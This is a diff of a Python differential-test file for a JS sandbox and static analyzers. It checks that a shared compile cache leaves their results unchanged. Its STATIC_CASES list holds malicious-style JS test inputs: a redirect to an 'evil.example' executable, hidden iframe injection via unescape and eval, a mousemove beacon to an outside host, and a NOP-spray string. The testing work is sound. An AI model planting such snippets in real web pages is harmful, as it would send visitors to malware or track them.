@@ -1,12 +1,17 @@
-"""Differential testing: cached vs uncached runs of the JS sandbox.
+"""Differential testing: cached vs uncached runs of the JS consumers.
 
 A pipeline-scoped :class:`~repro.jsengine.CompileCache` hands one parsed
-``Program`` to every script, page and shard thread that runs the same
-source, which is safe only while the tree-walking interpreter never
-mutates AST nodes.  This harness enforces that invariant: every program
-runs once uncached and once on a fresh interpreter replaying the
+``Program`` to every script, page, shard thread and consumer (the
+sandbox, the staticjs rules pass, the abstract interpreter, the feature
+extractor) that reads the same source, which is safe only while none of
+them mutates AST nodes.  This harness enforces that invariant: every
+program runs once uncached and once on a fresh interpreter replaying the
 ``Program`` from a cache warmed by an earlier run, and the two runs must
-agree on value, thrown error, step count and ``eval`` log.  Programs
+agree on value, thrown error, step count and ``eval`` log.  The static
+consumers get the same check — their ``ScriptReport`` and ``JsFeatures``
+must not depend on where the ``Program`` came from — and a sandbox run
+replaying a ``Program`` the static consumers already walked must equal
+a run on a fresh parse.  Programs
 come from a seeded, fully deterministic generator covering expressions,
 control flow, functions, and the deobfuscation idioms exchange malware
 actually uses (``unescape``, ``String.fromCharCode``, ``eval``
@@ -33,10 +38,13 @@ from repro.jsengine import (
     CompileCache,
     Interpreter,
     JSException,
+    extract_features,
     run_script_in_page,
 )
+from repro.jsengine.compilecache import parse_reusing
 from repro.jsengine.values import UNDEFINED, JSArray, JSFunction, JSObject
 from repro.malware.obfuscation import obfuscate, random_layers
+from repro.staticjs import analyze_script
 
 GENERATOR_SEED = 99173  # pinned: the corpus is part of the contract
 CASES = int(os.environ.get("REPRO_JS_FUZZ_CASES", "500"))
@@ -385,4 +393,103 @@ def test_page_level_host_effects_agree():
         if uncached != replayed:
             divergences.append({"html": html, "uncached": uncached,
                                 "replayed": replayed})
+    _record_and_assert(divergences)
+
+
+# ----------------------------------------------------------------------
+# static consumers on the shared Program
+# ----------------------------------------------------------------------
+#: AbstractEffects fields that hold sets (their list order is not data)
+_EFFECT_SETS = ("global_reads", "global_writes", "doc_handler_events",
+                "doc_handler_reads", "element_handler_events",
+                "element_handler_reads", "opaque_element_handler_events",
+                "decoders_used")
+
+STATIC_CASES = [
+    'var u = "http://" + "evil.example/" + "x.exe"; window.location = u;',
+    'document.write(unescape("%3Ciframe%20src%3D%22http%3A//f/%22%20'
+    'width%3D1%20height%3D1%3E%3C/iframe%3E"));',
+    'eval("var p = \'<iframe src=http://g/ width=0>\'; document.write(p);");',
+    "setTimeout(\"window.location = 'http://late/'\", 10);",
+    "document.addEventListener('mousemove', function (e) { new Image().src = "
+    "'http://t/p.gif?x=' + e.clientX; });",
+    'if (false) { document.write("<iframe src=http://cloak/>"); } var a = 1;',
+    "var shell = '%u9090%u9090%u9090'; var s = unescape(shell);",
+    "broken(",
+    'var bad = "\\xZZ";',
+    "(" * 200 + "1" + ")" * 200,
+    "a" + ".b" * 3000 + "();",
+]
+
+
+def static_observation(source, compile_cache=None):
+    report = analyze_script(source, compile_cache=compile_cache)
+    features = extract_features(source, compile_cache=compile_cache)
+    effects = None
+    if report.effects is not None:
+        effects = report.effects.to_dict()
+        for key in _EFFECT_SETS:
+            effects[key] = sorted(effects[key])
+    return {
+        "verdict": report.verdict,
+        "findings": [(f.rule, f.severity, f.message, f.evidence)
+                     for f in report.findings],
+        "capabilities": list(report.capabilities),
+        "resolved_payloads": list(report.resolved_payloads),
+        "parse_failed": report.parse_failed,
+        "node_count": report.node_count,
+        "redirect_targets": list(report.redirect_targets),
+        "effects": effects,
+        "features": dict(vars(features)),
+    }
+
+
+def diff_static(source):
+    """Fresh parses vs the consumers reading one warmed, shared Program."""
+    fresh = static_observation(source)
+    cache = CompileCache()
+    # the sandbox warms the entry; as the cache's miss, this run parses
+    # afresh, so it is also the fresh-parse sandbox observation
+    before = run_engine(source, compile_cache=cache)
+    shared = static_observation(source, cache)
+    divergence = {}
+    if fresh != shared:
+        divergence = {"fresh": fresh, "shared": shared}
+    try:
+        program = cache.compile(source)
+    except Exception:  # noqa: BLE001 - a stored compile error is shared too
+        program = None
+    if program is not None and parse_reusing(source, cache) is not program:
+        divergence["shared_program"] = False
+    # the sandbox replaying the Program the static consumers walked
+    after = run_engine(source, compile_cache=cache)
+    if after != before:
+        divergence["sandbox_after_static"] = after
+    return dict(divergence, source=source) if divergence else None
+
+
+def test_static_consumers_agree_on_shared_program():
+    rng = random.Random(GENERATOR_SEED + 3)
+    sources = list(STATIC_CASES) + list(REGRESSION_PROGRAMS)
+    sources.extend(ProgramGen(rng).program() for _ in range(60))
+    payloads = ['var s = "pay" + "load"; document.write(s);',
+                'window.location = "http://" + "x.example/";']
+    sources.extend(obfuscate(payloads[i % 2], random_layers(rng, 1 + i % 3), rng)
+                   for i in range(20))
+    divergences = [d for d in map(diff_static, sources) if d is not None]
+    _record_and_assert(divergences)
+
+
+def test_static_consumers_agree_on_generated_web_scripts():
+    from repro import MalwareSlumsStudy, StudyConfig
+    from repro.htmlparse import parse, select
+
+    web = MalwareSlumsStudy(StudyConfig(seed=2016, scale=0.005)).generate_web()
+    sources = sorted({
+        script.text_content()
+        for site in web.registry for page in site.pages.values()
+        for script in select(parse(page.html), "script")
+        if not script.get("src") and script.text_content().strip()})
+    assert len(sources) > 50
+    divergences = [d for d in map(diff_static, sources) if d is not None]
     _record_and_assert(divergences)
